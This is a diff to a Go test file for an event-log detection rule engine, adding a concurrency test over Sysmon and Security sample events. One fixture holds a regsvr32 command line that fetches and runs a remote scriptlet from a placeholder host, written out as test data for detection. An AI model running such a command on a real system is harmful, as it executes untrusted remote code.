@@ -1,6 +1,7 @@
 package rules
 
 import (
+	"fmt"
 	"strings"
 	"testing"
 )
@@ -509,5 +510,42 @@ func TestBuiltinPack(t *testing.T) {
 	ids4688 := newEvent("Security", 4688, "NewProcessName", `C:\Windows\System32\calc.exe`, "ParentProcessName", sys32)
 	if ok, _ := car.Eval(ids4688, nil); !ok {
 		t.Error("CAR children rule should match Security 4688")
+	}
+}
+
+// TestConcurrentMatch runs Match, Candidates and Eval from several
+// goroutines on one Set (run with -race).
+func TestConcurrentMatch(t *testing.T) {
+	s := Load(LoadOptions{})
+	evs := []*mapEvent{
+		sysmon(1, "Image", `C:\Windows\System32\regsvr32.exe`, "CommandLine", `regsvr32 /s /i:http://x/a.sct scrobj.dll`, "ParentImage", `C:\x\winword.exe`),
+		sysmon(7, "Image", `C:\Windows\System32\regsvr32.exe`, "Signed", "false", "ImageLoaded", `C:\Users\x\a.dll`),
+		newEvent("Security", 4688, "NewProcessName", `C:\Windows\System32\calc.exe`, "ParentProcessName", `C:\Windows\System32\regsvr32.exe`),
+	}
+	want := make([]int, len(evs))
+	for i, ev := range evs {
+		want[i] = len(s.Candidates(ev, nil))
+		if want[i] == 0 {
+			t.Fatalf("event %d matches nothing", i)
+		}
+	}
+	done := make(chan error, 4)
+	for g := 0; g < 4; g++ {
+		go func() {
+			for n := 0; n < 300; n++ {
+				i := n % len(evs)
+				if got := len(s.Candidates(evs[i], nil)); got != want[i] {
+					done <- fmt.Errorf("event %d: %d matches, want %d", i, got, want[i])
+					return
+				}
+				s.Rules()[0].Eval(evs[i], nil)
+			}
+			done <- nil
+		}()
+	}
+	for g := 0; g < 4; g++ {
+		if err := <-done; err != nil {
+			t.Error(err)
+		}
 	}
 }
